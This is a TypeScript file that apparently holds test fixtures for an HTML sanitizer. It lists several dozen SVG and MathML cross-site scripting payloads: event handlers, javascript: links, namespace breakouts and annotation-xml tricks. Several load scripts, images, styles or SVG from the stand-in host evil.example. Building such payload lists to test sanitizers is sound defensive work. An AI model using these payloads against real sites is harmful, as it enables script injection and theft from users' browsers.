/** SVG and MathML, and ways back from them to HTML. */
export const FOREIGN = {
  'SVG that loads': '<svg onload=trapped(0)></svg>x',
  'SVG with a script': '<svg><script>trapped(0)</script></svg>x',
  'SVG with a script of another host': '<svg><script href=https://evil.example/x.js /></svg>x',
  'SVG with a script in entities': '<svg><script>&#116;rapped(0)</script></svg>x',
  'SVG with a script in CDATA': '<svg><script><![CDATA[trapped(0)]]></script></svg>x',
  'SVG with a link': '<svg><a href="javascript:trapped(0)"><text y=20>x</text></a></svg>',
  'SVG with a link by XLink': '<svg><a xlink:href="javascript:trapped(0)"><rect width=9 height=9 /></a></svg>x',
  'SVG with a link that is animated':
    '<svg><a><animate attributeName=href values=javascript:trapped(0) /><text y=20>x</text></a></svg>',
  'SVG with a link that is set':
    '<svg><a><set attributeName=href to=javascript:trapped(0) /><text y=20>x</text></a></svg>',
  'SVG that animates an event': '<svg><animate onbegin=trapped(0) attributeName=x dur=1s /></svg>x',
  'SVG that animates at its end': '<svg><animate onend=trapped(0) attributeName=x dur=1ms /></svg>x',
  'SVG that moves':
    '<svg><animateTransform onbegin=trapped(0) attributeName=transform dur=1s /><animateMotion onbegin=trapped(0) dur=1s /></svg>x',
  'SVG with an image': '<svg><image href=https://evil.example/a onerror=trapped(0) /></svg>x',
  'SVG with an image by XLink': '<svg><image xlink:href=x onerror=trapped(0) /></svg>x',
  'SVG with a use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>trapped(0)</script></svg>#x" /></svg>x',
  'SVG with a use of another host': '<svg><use xlink:href=https://evil.example/a.svg#x /></svg>x',
  'SVG with a filter':
    '<svg><filter><feImage href=https://evil.example/a /></filter><rect fill=url(https://evil.example/b) /></svg>x',
  'SVG with a style': '<svg><style>@import "https://evil.example/a.css";</style></svg>x',
  'SVG with a style and a tag': '<svg><style><img src=x onerror=trapped(0)></style></svg>',
  'SVG with a title and a tag': '<svg><title><img src=x onerror=trapped(0)></title></svg>',
  'SVG with a desc and a tag': '<svg><desc><img src=x onerror=trapped(0)></desc></svg>',
  'SVG with a foreign object': '<svg><foreignObject><img src=x onerror=trapped(0)></foreignObject></svg>',
  'SVG with a frame in a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.trapped(0)</script>"></iframe></foreignObject></svg>x',
  'SVG with a handler':
    '<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>trapped(0)</handler></svg>x',
  'SVG with a focus':
    '<svg><g tabindex=0 autofocus onfocus=trapped(0) onclick=trapped(0)><text y=20>x</text></g></svg>',
  'SVG with a discard': '<svg><discard onbegin=trapped(0) /></svg>x',
  'SVG left by a breakout': '<svg><p><img src=x onerror=trapped(0)></p></svg>',
  'SVG left by an end tag': '<svg></p><img src=x onerror=trapped(0)></svg>',
  'SVG left by a font': '<svg><font color=red><img src=x onerror=trapped(0)></font></svg>',
  'SVG with names of HTML':
    '<svg><a href="//evil.example"><input name=x checked><section class=page><td>x</td></section></a></svg>',
  'SVG with a prefix': '<svg:svg onload=trapped(0)><svg:script>trapped(0)</svg:script></svg:svg>x',
  'SVG with a namespace':
    '<svg xmlns="x" xmlns:xlink="http://www.w3.org/1999/xlink" xml:base=javascript:trapped(0)//><a xlink:href="#">x</a></svg>',
  'SVG in SVG': '<svg><svg onload=trapped(0)><svg><desc><svg onload=trapped(0)></svg></desc></svg></svg></svg>x',
  'MathML with a link': '<math href="javascript:trapped(0)"><mi>x</mi></math>',
  'MathML with a link by XLink': '<math><mrow xlink:href="javascript:trapped(0)"><mi>x</mi></mrow></math>',
  'MathML with an action':
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:trapped(0)">x</maction></math>',
  'MathML with a text': '<math><mtext><img src=x onerror=trapped(0)></mtext></math>',
  'MathML with an event': '<math onclick=trapped(0) onfocus=trapped(0) tabindex=0 autofocus><mi>x</mi></math>',
  'MathML with an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=trapped(0)></annotation-xml></math>',
  'MathML with an annotation in XHTML':
    '<math><annotation-xml encoding="application/xhtml+xml"><script>trapped(0)</script></annotation-xml></math>x',
  'MathML with an annotation that is none':
    '<math><annotation-xml><style><img src=x onerror=trapped(0)></style></annotation-xml></math>',
  'MathML with an annotation of SVG':
    '<math><annotation-xml><svg><foreignObject><img src=x onerror=trapped(0)></foreignObject></svg></annotation-xml></math>',
  'MathML with a glyph':
    '<math><mtext><mglyph src=https://evil.example/a><img src=x onerror=trapped(0)></mglyph></mtext></math>',
  'MathML with a source':
    '<math><semantics><mi>x</mi><annotation src=https://evil.example/a>y</annotation></semantics></math>',
} as const;
